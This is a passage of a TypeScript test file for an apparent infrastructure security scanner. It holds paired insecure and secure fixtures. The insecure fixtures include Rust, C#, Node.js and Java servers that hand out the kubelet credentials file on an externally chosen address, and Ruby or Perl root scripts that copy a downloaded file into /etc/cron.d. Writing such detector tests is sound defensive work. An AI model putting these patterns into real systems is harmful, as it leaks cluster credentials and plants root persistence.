        ]),
    ),
    dev("echo logrotate | batch", devNodeScript("dev-g71mn-batch-logrotate-ok-nodes", [`echo '${LOGROTATE}' | batch`])),
    dev(
        "/etc/environment.d/10-lang.conf LANG=C.UTF-8",
        devNodeScript("dev-g71mn-envd-lang-ok-nodes", [
            ...heredocFile("/etc/environment.d/10-lang.conf", ["LANG=C.UTF-8"]),
        ]),
    ),
    // Neighbours of the round-71 session-environment fix (secure side): a script's own NODE_ names (no variable Node.js
    // reads), cosmetic Node.js variables, pam_env.conf with a harmless name.
    dev(
        "/etc/environment NODE_ROLE=worker and NODE_POOL=general (a script's own names)",
        devNodeScript("dev-g71mn-etcenv-noderole-ok-nodes", [
            "echo 'NODE_ROLE=worker' >> /etc/environment",
            "echo 'NODE_POOL=general' >> /etc/environment",
        ]),
    ),
    dev(
        "/etc/environment NODE_DISABLE_COLORS=1, NODE_NO_WARNINGS=1 (cosmetic Node.js variables)",
        devNodeScript("dev-g71mn-etcenv-nodecolors-ok-nodes", [
            ...heredocFile("/etc/environment", ["NODE_DISABLE_COLORS=1", "NODE_NO_WARNINGS=1", "LANG=C.UTF-8"]),
        ]),
    ),
    dev(
        "/etc/security/pam_env.conf EDITOR DEFAULT=vim",
        devNodeScript("dev-g71mn-pamenvconf-editor-ok-nodes", [
            "echo 'EDITOR DEFAULT=vim' >> /etc/security/pam_env.conf",
        ]),
    ),
];

describeNodeCases(
    "round 71 gaps: manager environment loader variables, root shell lines (cron, units, supervisord, monit, at, wazuh)",
    [...managerInsecure, ...rootLinesInsecure],
    managerSecure,
);

// Round 71 gaps (fix71-bindvar): a listen call of Rust, .NET, Node.js and Java judged by its own address argument (an
// environment value is every address, whatever loopback literal sits elsewhere), and Ruby/Perl process starts the
// "starts a process" fallback must catch (IO.popen, Open3, Kernel.system, Perl's piped three-argument open).
/** The kubelet's credentials, the answer an insecure listener gives each connection. */
const KUBELET_CONF = "/etc/kubernetes/kubelet.conf";
/** User data writing a cargo package /opt/ops (src/main.rs: `main`) run by `cargo run` as root. */
const cargoMain = (name: string, main: string[], run = "") =>
    devNodeScript(name, [
        "mkdir -p /opt/ops/src",
        ...heredocFile("/opt/ops/Cargo.toml", ["[package]", 'name = "ops"', 'version = "0.1.0"', 'edition = "2021"']),
        ...heredocFile("/opt/ops/src/main.rs", main),
        `cd /opt/ops && nohup cargo run --release${run} >/var/log/ops.log 2>&1 &`,
    ]);
/** A Rust main binding `bind` (after `before` lines), answering each connection with `answer` (an expression of bytes). */
const rustServer = (bind: string, before: string[] = [], answer = `std::fs::read("${KUBELET_CONF}").unwrap()`) => [
    "use std::io::Write;",
    "use std::net::TcpListener;",
    ...before.filter(l => l.startsWith("const ")),
    "fn main() {",
    ...before.filter(l => !l.startsWith("const ")).map(l => `    ${l}`),
    `    let l = TcpListener::bind(${bind}).unwrap();`,
    "    for s in l.incoming() {",
    "        let mut s = s.unwrap();",
    `        s.write_all(&${answer}).unwrap();`,
    "    }",
    "}",
];
/** User data writing a .NET project /opt/ops/web (Program.cs: `program`) run by `dotnet run` as root. */
const dotnetMain = (name: string, program: string[]) =>
    devNodeScript(name, [
        "mkdir -p /opt/ops/web",
        ...heredocFile("/opt/ops/web/web.csproj", ['<Project Sdk="Microsoft.NET.Sdk"></Project>']),
        ...heredocFile("/opt/ops/web/Program.cs", program),
        "cd /opt/ops/web && nohup dotnet run >/var/log/ops.log 2>&1 &",
    ]);
/** A C# top-level program listening on `address` (a System.Net.IPAddress expression) port 8081. */
const csServer = (address: string, before: string[] = [], answer = `File.ReadAllBytes("${KUBELET_CONF}")`) => [
    "using System.Net;",
    "using System.Net.Sockets;",
    ...before,
    `var l = new TcpListener(${address}, 8081);`,
    "l.Start();",
    "while (true) {",
    "    using var c = l.AcceptTcpClient();",
    `    c.GetStream().Write(${answer});`,
    "}",
];
/** User data writing /opt/ops/server.js (`lines`) run by node as root. */
const nodeMain = (name: string, lines: string[]) =>
    devNodeScript(name, [
        ...heredocFile("/opt/ops/server.js", lines),
        "cd /opt/ops && nohup node server.js >/var/log/ops.log 2>&1 &",
    ]);
/** An http server answering with `answer` listening by `listen` (the call's arguments). */
const nodeServer = (listen: string, before: string[] = [], answer = `fs.readFileSync('${KUBELET_CONF}')`) => [
    "const http = require('http');",
    "const fs = require('fs');",
    ...before,
    `http.createServer((req, res) => res.end(${answer})).listen(${listen});`,
];
/** User data writing /opt/ops/Srv.java (`lines`) run by `java Srv.java` as root. */
const javaMain = (name: string, lines: string[]) =>
    devNodeScript(name, [
        "dnf install -y java-21-amazon-corretto-headless",
        ...heredocFile("/opt/ops/Srv.java", lines),
        "cd /opt/ops && nohup java Srv.java >/var/log/ops.log 2>&1 &",
    ]);
/** A Java ServerSocket bound to `address` (a SocketAddress expression), after `before` lines of main. */
const javaServer = (
    address: string,
    before: string[] = [],
    answer = `Files.readAllBytes(Path.of("${KUBELET_CONF}"))`,
) => [
    "import java.net.*;",
    "import java.nio.file.*;",
    "public class Srv {",
    ...before.filter(l => l.startsWith("static ")).map(l => `    ${l}`),
    "    public static void main(String[] a) throws Exception {",
    ...before.filter(l => !l.startsWith("static ")).map(l => `        ${l}`),
    "        ServerSocket s = new ServerSocket();",
    `        s.bind(${address});`,
    "        while (true) {",
    "            try (Socket c = s.accept()) {",
    `                c.getOutputStream().write(${answer});`,
    "            }",
    "        }",
    "    }",
    "}",
];
/** User data downloading /opt/ops/x.src, then writing /opt/ops/x.rb (`lines`) run by ruby as root. */
const rubyFile = (name: string, lines: string[], ext = "rb", runner = "ruby") =>
    devNodeScript(name, [
        "mkdir -p /opt/ops",
        ...DOWNLOADED,
        ...heredocFile(`/opt/ops/x.${ext}`, lines),
        `${runner} /opt/ops/x.${ext}`,
    ]);

const bindInsecure: NodeCase[] = [
    dev(
        'cargo run: TcpListener::bind(std::env::var("ADDR")) beside a stray "127.0.0.1:9000"',
        cargoMain(
            "dev-g71b-rust-bind-env-nodes",
            rustServer("addr", [
                'let upstream = "127.0.0.1:9000";',
                "let _ = upstream;",
                'let addr = std::env::var("ADDR").unwrap();',
            ]),
        ),
    ),
    dev(
        'cargo run -- "$BIND": TcpListener::bind(std::env::args().nth(1)) beside a stray "127.0.0.1"',
        cargoMain(
            "dev-g71b-rust-bind-argv-nodes",
            rustServer("std::env::args().nth(1).unwrap()", ['let upstream = "127.0.0.1";', "let _ = upstream;"]),
            ' -- "$BIND"',
        ),
    ),
    dev(
        'dotnet run: new TcpListener(IPAddress.Parse(Environment.GetEnvironmentVariable("HOST")), 8081) beside "127.0.0.1"',
        dotnetMain(
            "dev-g71b-cs-listener-env-nodes",
            csServer('IPAddress.Parse(Environment.GetEnvironmentVariable("HOST")!)', ['var upstream = "127.0.0.1";']),
        ),
    ),
    dev(
        'dotnet run: host = args[0]; new TcpListener(IPAddress.Parse(host), 8081) beside "127.0.0.1"',
        dotnetMain(
            "dev-g71b-cs-listener-args-nodes",
            csServer("IPAddress.Parse(host)", ['var upstream = "127.0.0.1";', "var host = args[0];"]),
        ),
    ),
    dev(
        "node server.js: server.listen(8080, process.env.HOST) beside a stray '127.0.0.1'",
        nodeMain(
            "dev-g71b-node-listen-env-nodes",
            nodeServer("8080, process.env.HOST", ["const UPSTREAM = '127.0.0.1';"]),
        ),
    ),
    dev(
        "node server.js: listen({ port: 8080, host: process.argv[2] }) beside a stray '127.0.0.1'",
        nodeMain(
            "dev-g71b-node-listen-argv-nodes",
            nodeServer("{ port: 8080, host: process.argv[2] }", ["const UPSTREAM = '127.0.0.1';"]),
        ),
    ),
    dev(
        'java Srv.java: bind(new InetSocketAddress(System.getenv("HOST"), 8081)) beside a stray "127.0.0.1"',
        javaMain(
            "dev-g71b-java-bind-env-nodes",
            javaServer('new InetSocketAddress(System.getenv("HOST"), 8081)', ['String upstream = "127.0.0.1";']),
        ),
    ),
    dev(
        'java Srv.java: bind(new InetSocketAddress(InetAddress.getByName(a[0]), 8081)) beside "127.0.0.1"',
        javaMain(
            "dev-g71b-java-bind-argv-nodes",
            javaServer("new InetSocketAddress(InetAddress.getByName(a[0]), 8081)", ['String upstream = "127.0.0.1";']),
        ),
    ),
    // Ruby docs IO.popen ("Executes the given command cmd as a subprocess"), Open3 ("popen3 ... capture2 ... spawn a
    // process"), Kernel.system; perlfunc open ("If MODE is '-|', the filename is interpreted as a command from which
    // output is to be piped"): root copying a downloaded file into /etc/cron.d.
    dev(
        'ruby x.rb: IO.popen(["cp", "/opt/ops/x.src" (downloaded), "/etc/cron.d/x"]).read',
        rubyFile("dev-g71b-ruby-io-popen-nodes", ['IO.popen(["cp", "/opt/ops/x.src", "/etc/cron.d/x"]).read']),
    ),
    dev(
        'ruby x.rb: Open3.capture2("cp", "/opt/ops/x.src" (downloaded), "/etc/cron.d/x")',
        rubyFile("dev-g71b-ruby-open3-capture2-nodes", [
            'require "open3"',
            'Open3.capture2("cp", "/opt/ops/x.src", "/etc/cron.d/x")',
        ]),
    ),
    dev(
        'ruby x.rb: Open3.popen3("cp", ...) { |i, o, e, t| t.value }',
        rubyFile("dev-g71b-ruby-open3-popen3-nodes", [
            'require "open3"',
            'Open3.popen3("cp", "/opt/ops/x.src", "/etc/cron.d/x") { |i, o, e, t| t.value }',
        ]),
    ),
    dev(
        'ruby x.rb: Kernel.system("cp", "/opt/ops/x.src" (downloaded), "/etc/cron.d/x")',
        rubyFile("dev-g71b-ruby-kernel-system-nodes", ['Kernel.system("cp", "/opt/ops/x.src", "/etc/cron.d/x")']),
    ),
    dev(
        `ruby -e 'IO.popen(["cp", "/opt/ops/x.src" (downloaded), "/etc/cron.d/x"]).read'`,
        devNodeScript("dev-g71b-ruby-e-io-popen-nodes", [
            "mkdir -p /opt/ops",
            ...DOWNLOADED,
            `ruby -e 'IO.popen(["cp", "/opt/ops/x.src", "/etc/cron.d/x"]).read'`,
        ]),
    ),
    dev(
        `ruby -e 'require "open3"; Open3.capture2("cp", ...)'`,
        devNodeScript("dev-g71b-ruby-e-open3-nodes", [
            "mkdir -p /opt/ops",
            ...DOWNLOADED,
            `ruby -e 'require "open3"; Open3.capture2("cp", "/opt/ops/x.src", "/etc/cron.d/x")'`,
        ]),
    ),
    dev(
        'perl x.pl: open(my $fh, "-|", "cp", "/opt/ops/x.src" (downloaded), "/etc/cron.d/x")',
        rubyFile(
            "dev-g71b-perl-open-pipe-nodes",
            ['open(my $fh, "-|", "cp", "/opt/ops/x.src", "/etc/cron.d/x") or die;', "close($fh);"],
            "pl",
            "perl",
        ),
    ),
    // Neighbours (fix71-bindvar), insecure side: Java's wildcard InetSocketAddress(port), a Rust name bound twice
    // (shadowed by the environment), a C# endpoint held in a name built from argv.
    dev(
        'java Srv.java: bind(new InetSocketAddress(8081)) (the wildcard address) beside a stray "127.0.0.1"',
        javaMain(
            "dev-g71b-java-bind-port-only-nodes",
            javaServer("new InetSocketAddress(8081)", ['String upstream = "127.0.0.1";']),
        ),
    ),
    dev(
        'cargo run: let addr = "127.0.0.1:8080"; let addr = std::env::var("ADDR") (shadowed); bind(addr)',
        cargoMain(
            "dev-g71b-rust-bind-shadowed-nodes",
            rustServer("addr", [
                'let addr = "127.0.0.1:8080";',
                'let addr = std::env::var("ADDR").unwrap_or(addr.to_string());',
            ]),
        ),
    ),
    dev(
        'dotnet run: var ep = new IPEndPoint(IPAddress.Parse(args[0]), 8081); socket.Bind(ep) beside "127.0.0.1"',
        dotnetMain("dev-g71b-cs-bind-endpoint-args-nodes", [
            "using System.Net;",
            "using System.Net.Sockets;",
            'var upstream = "127.0.0.1";',
            "var ep = new IPEndPoint(IPAddress.Parse(args[0]), 8081);",
            "var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);",
            "s.Bind(ep);",
            "s.Listen(10);",
            "while (true) {",
            "    using var c = s.Accept();",
            `    c.Send(File.ReadAllBytes("${KUBELET_CONF}"));`,
            "}",
        ]),
    ),
];

const bindSecure: NodeCase[] = [
    dev(
        'cargo run: TcpListener::bind("127.0.0.1:8080") beside std::env::var("LOG")',
        cargoMain(
            "dev-g71b-rust-bind-loopback-ok-nodes",
            rustServer(
                '"127.0.0.1:8080"',
                ['let log = std::env::var("LOG").unwrap_or_default();', "let _ = log;"],
                'b"ok".to_vec()',
            ),
        ),
    ),
    dev(
        'cargo run: const ADDR: &str = "127.0.0.1:8080"; TcpListener::bind(ADDR)',
        cargoMain(
            "dev-g71b-rust-bind-const-ok-nodes",
            rustServer("ADDR", ['const ADDR: &str = "127.0.0.1:8080";'], 'b"ok".to_vec()'),
        ),
    ),
    dev(
        "dotnet run: new TcpListener(IPAddress.Loopback, 8081)",
        dotnetMain(
            "dev-g71b-cs-listener-loopback-ok-nodes",
            csServer("IPAddress.Loopback", [], "new byte[] { 111, 107 }"),
        ),
    ),
    dev(
        'dotnet run: new TcpListener(IPAddress.Parse("127.0.0.1"), 8081) beside Environment.GetEnvironmentVariable("LOG")',
        dotnetMain(
            "dev-g71b-cs-listener-parse-ok-nodes",
            csServer(
                'IPAddress.Parse("127.0.0.1")',
                ['var log = Environment.GetEnvironmentVariable("LOG");'],
                "new byte[] { 111, 107 }",
            ),
        ),
    ),
    dev(
        "node server.js: server.listen(8080, '127.0.0.1') beside process.env.LOG",
        nodeMain(
            "dev-g71b-node-listen-loopback-ok-nodes",
            nodeServer("8080, '127.0.0.1'", ["const LOG = process.env.LOG;"], "'ok'"),
        ),
    ),
    dev(
        "node server.js: const HOST = '127.0.0.1'; listen({ port: 8080, host: HOST })",
        nodeMain(
            "dev-g71b-node-listen-const-ok-nodes",
            nodeServer("{ port: 8080, host: HOST }", ["const HOST = '127.0.0.1';"], "'ok'"),
        ),
    ),
    dev(
        'java Srv.java: bind(new InetSocketAddress("127.0.0.1", 8081)) beside System.getenv("LOG")',
        javaMain(
            "dev-g71b-java-bind-loopback-ok-nodes",
            javaServer(
                'new InetSocketAddress("127.0.0.1", 8081)',
                ['String log = System.getenv("LOG");'],
                '"ok".getBytes()',
            ),
        ),
    ),
    dev(
        'java Srv.java: static final String HOST = "127.0.0.1"; bind(new InetSocketAddress(HOST, 8081))',
        javaMain(
            "dev-g71b-java-bind-const-ok-nodes",
            javaServer(
                "new InetSocketAddress(HOST, 8081)",
                ['static final String HOST = "127.0.0.1";'],
                '"ok".getBytes()',
            ),
        ),
    ),
    dev(
        'ruby x.rb: puts File.read("/etc/os-release") (no process started)',
        rubyFile("dev-g71b-ruby-read-ok-nodes", ['puts File.read("/etc/os-release")']),
    ),
    dev(
        'perl x.pl: open(my $fh, "<", "/etc/os-release") (a file read, no pipe)',
        rubyFile(
            "dev-g71b-perl-open-read-ok-nodes",
            ['open(my $fh, "<", "/etc/os-release") or die;', "print while <$fh>;", "close($fh);"],
            "pl",
            "perl",
        ),
    ),
    // Neighbours (fix71-bindvar), secure side: a loopback host with its port from the environment (only the host says
    // where a socket address listens).
    dev(
        'cargo run: TcpListener::bind(("127.0.0.1", port)) with port from std::env::var("PORT")',
        cargoMain(
            "dev-g71b-rust-bind-env-port-ok-nodes",
            rustServer(
                '("127.0.0.1", port)',
                ['let port: u16 = std::env::var("PORT").unwrap().parse().unwrap();'],
                'b"ok".to_vec()',
            ),
        ),
    ),
    dev(
        'java Srv.java: bind(new InetSocketAddress("127.0.0.1", Integer.parseInt(System.getenv("PORT"))))',
        javaMain(
            "dev-g71b-java-bind-env-port-ok-nodes",
            javaServer(
                'new InetSocketAddress("127.0.0.1", Integer.parseInt(System.getenv("PORT")))',
                [],
                '"ok".getBytes()',
            ),
        ),
    ),
];

describeNodeCases(
    "round 71 gaps: listen calls judged by their own address (Rust, .NET, Node.js, Java), Ruby/Perl process starts",
    bindInsecure,
    bindSecure,
);
